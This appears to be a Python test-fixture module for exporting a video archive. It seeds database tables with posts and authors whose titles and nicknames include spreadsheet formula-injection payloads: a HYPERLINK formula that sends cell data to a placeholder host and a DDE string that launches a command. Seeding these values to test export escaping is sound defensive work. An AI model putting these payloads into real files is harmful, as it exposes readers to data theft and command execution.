"""Archives to export, on either database: rows of every table, some of them hostile, and ways to change them."""

from __future__ import annotations

import asyncio
import itertools
from collections.abc import Awaitable, Callable
from pathlib import Path
from random import Random
from typing import Any

from sqlalchemy import Connection, delete, insert, select, update

from clipledger.archive import Archive, open_archive
from clipledger.core.ports import ReplacingStore
from clipledger.db import search_index
from clipledger.db.index_tables import author_handles, authors, availability
from clipledger.db.tables import archive_queue, dead_letters, files, post_metrics_history, posts, sightings
from clipledger.export.exporting import Names, Outcome, Wish, destination, export
from clipledger.export.manifest import Kind
from contract.archives import NOW, is_postgres, new_archive

HOSTILE = (
    "=1+1",
    '=HYPERLINK("https://x.example/?q="&A1,"y")',
    "+31 6 1234",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "  =1+1",
    "＝1+1",
    'quotes " and, commas\r\nand lines\n=2',
    "\U0001f600 東京 \u202e rtl",
    "https://v16.example.com/video/x.mp4?X-Expires=1780000000&X-Signature=c2VjcmV0",
    "",
)
SECRET = "c2VjcmV0"
_names = itertools.count()


def aweme(number: int) -> str:
    """Make an id: a post every eight hours from May 2026."""
    return str((1_778_000_000 + number * 28_800) << 32 | 77 + number)


def lay(folder: Path) -> Path:
    """Lay an empty archive down that commands can open."""
    folder.mkdir(parents=True, exist_ok=True)
    where = new_archive(folder)
    if is_postgres():
        (folder / "clipledger.toml").write_text(f'[database]\nurl = "{where}"\n', encoding="utf-8")
    (folder / ".clipledger").mkdir(exist_ok=True)
    (folder / ".clipledger" / "uuid").write_text("0f0e\n", encoding="ascii")
    return folder


def with_archive(folder: Path, act: Callable[[Archive], Awaitable[None]]) -> None:
    """Run `act` on the opened archive."""

    async def main() -> None:
        async with open_archive(folder) as archive:
            await act(archive)

    asyncio.run(main())


async def exported(archive: Archive, to: Path | str, kind: Kind = Kind.PARQUET, **wish: Any) -> Outcome:
    """Export as the command does."""
    store: ReplacingStore = destination(archive, str(to))
    try:
        names = Names(f"export-{next(_names)}-{id(archive)}", f"journal{next(_names)}")
        return await export(archive, store, Wish(kind, **wish), names, lambda *_: None)
    finally:
        await store.close()


def tree(folder: Path) -> dict[str, bytes]:
    """Read every file of an export but the one that tells when it was made."""
    return {
        str(path.relative_to(folder)): path.read_bytes()
        for path in sorted(folder.rglob("*"))
        if path.is_file() and path.name != "export.json"
    }


async def fill(archive: Archive, count: int) -> None:
    """Put in `count` posts and all that belongs to them."""
    await archive.db.write(lambda connection: put_in(connection, range(count)))


def put_in(connection: Connection, numbers: range) -> None:
    """Put posts in, past the queue: with authors, files, counters, sightings; every seventh is dead."""
    for table, rows in (
        (archive_queue, [_queued(number) for number in numbers]),
        (posts, [_post(number) for number in numbers if number % 7]),
        (post_metrics_history, [row for number in numbers for row in _metrics(number)]),
        (files, [_file(number) for number in numbers if number % 7]),
        (sightings, [_sighting(number) for number in numbers]),
        (dead_letters, [_dead(number) for number in numbers if number % 7 == 0]),
    ):
        if rows:
            connection.execute(insert(table), rows)
    known = set(connection.execute(select(authors.c.author_id)).scalars())
    for who in sorted({number % 5 for number in numbers}):
        if str(100 + who) not in known:
            seen = {"first_seen_at": NOW + who * 90_000.0, "last_seen_at": NOW + who * 90_001.0}
            connection.execute(
                insert(authors), {"author_id": str(100 + who), "handle": f"h{who}", "nickname": HOSTILE[who]} | seen
            )
            for handle in ("old", f"h{who}"):
                connection.execute(insert(author_handles), {"author_id": str(100 + who), "handle": handle} | seen)
    if ids := [aweme(number) for number in numbers if number % 7]:
        search_index.begin(connection, ids)
        search_index.index(connection, ids)


def change(connection: Connection, dice: Random, count: int) -> None:
    """Change something at random, as some part of the program would, or an operator in SQL."""
    one, at, plays = aweme(dice.randrange(count)), NOW + dice.randrange(10**7) / 10, dice.randrange(10**6)
    who = str(100 + dice.randrange(5))
    seen = {"first_at": at, "last_at": at, "state": "gone", "feed": "refresh", "reason": "not_found"}
    statement, values = dice.choice(
        [
            (update(posts).where(posts.c.aweme_id == one), {"play_count": plays}),
            (insert(post_metrics_history), {"aweme_id": one, "observed_at": at, "feed": "list", "play_count": plays}),
            (update(sightings).where(sightings.c.aweme_id == one), {"last_seen_at": at}),
            (delete(dead_letters).where(dead_letters.c.aweme_id == one), {}),
            (update(archive_queue).where(archive_queue.c.aweme_id == one), {"state": "withheld"}),
            (update(archive_queue).where(archive_queue.c.aweme_id == one), {"state": "archived"}),
            (insert(availability), {"aweme_id": one} | seen),
            (update(authors).where(authors.c.author_id == who), {"first_seen_at": at - 10**6}),
            (delete(posts).where(posts.c.aweme_id == one), {}),
            (delete(files).where(files.c.aweme_id == one), {}),
        ]
    )
    connection.execute(statement, values or None)


def _queued(number: int) -> dict[str, Any]:
    state = "archived" if number % 7 else "dead"
    return {"aweme_id": aweme(number), "source": "#x", "state": state, "added_at": NOW, "due_at": NOW}


def _post(number: int) -> dict[str, Any]:
    return {
        "aweme_id": aweme(number),
        "author_id": str(100 + number % 5),
        "author_handle": f"h{number % 5}",
        "author_nickname": HOSTILE[-number % len(HOSTILE)],
        "title": HOSTILE[number % len(HOSTILE)],
        "region": "NL",
        "duration": 12.5 if number % 2 else None,
        "create_time": int(aweme(number)) >> 32,
        "play_count": number * 1000,
        "is_photo": number % 3 == 0,
        "storage_key": f"videos/{number}.mp4",
        "sidecar_key": f"videos/{number}.json",
        "bytes": 1000 + number,
        "sha256": f"{number:064x}",
        "archived_at": NOW + number,
        "counters_at": NOW + number + 0.123,
        "plays_per_day": -1.5 * number,
    }


def _metrics(number: int) -> list[dict[str, Any]]:
    return [
        {
            "aweme_id": aweme(number),
            "observed_at": NOW + step * 3600.0,
            "feed": "list",
            "play_count": number * 10 + step,
        }
        for step in range(3)
    ]


def _file(number: int) -> dict[str, Any]:
    return {
        "aweme_id": aweme(number),
        "storage_key": f"videos/{number}.mp4",
        "kind": "video",
        "media_type": "video/mp4",
        "bytes": 1000 + number,
        "sha256": f"{number:064x}",
        "stored_at": NOW,
    }


def _sighting(number: int) -> dict[str, Any]:
    return {"source": ("#x", "@y")[number % 2], "aweme_id": aweme(number), "seen_at": NOW, "last_seen_at": NOW}


def _dead(number: int) -> dict[str, Any]:
    return {"aweme_id": aweme(number), "reason": "not_found", "detail": "=gone", "attempts": 3, "died_at": NOW}
